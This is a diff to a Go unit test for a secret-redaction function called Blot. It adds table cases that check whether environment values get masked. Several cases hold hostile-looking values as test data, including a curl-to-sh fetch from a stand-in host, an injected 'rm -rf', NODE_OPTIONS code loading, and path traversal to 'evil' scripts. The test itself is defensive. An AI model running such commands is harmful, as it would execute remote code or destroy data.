@@ -18,6 +18,13 @@ func TestBlot(t *testing.T) {
 		{"MY_TOKEN", "$(curl evil.test | sh)", "$(curl evil.test | sh)", "(a secret"},
 		{"FOO", `{"MY_TOKEN":"x; rm -rf ."}`, "x; rm -rf .", "(a secret"},
 		{"NODE_OPTIONS", "--require ./evil.js", "--require ./evil.js", "(a secret"},
+		{"API_TOKEN", "./scripts/steal-everything.sh", "./scripts/steal-everything.sh", "(a secret"},
+		{"API_TOKEN", "steal.sh", "steal.sh", "(a secret"},
+		{"FOO", "./" + token + "/../evil.sh", token + "/../evil.sh", "(a secret"},
+		{"NODE_OPTIONS", "--require=./sk-ant-api03-abcdefghijklmnop.js", "sk-ant-api03-abcdefghijklmnop.js", "(a secret"},
+		{"FOO", "bearer ./evil/run.sh", "bearer ./evil/run.sh", "(a secret"},
+		{"FOO", "Authorization: bearer abcdefgh/ijkl.mnop", "(a secret", "ijkl"},
+		{"FOO", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.SflKxwRJSMeKKF2QT4", "(a secret", "SflKxw"},
 		{"MY_TOKEN", "${OTHER}", "${OTHER}", "(a secret"},
 	} {
 		got := Blot(c.name, c.value, nil)
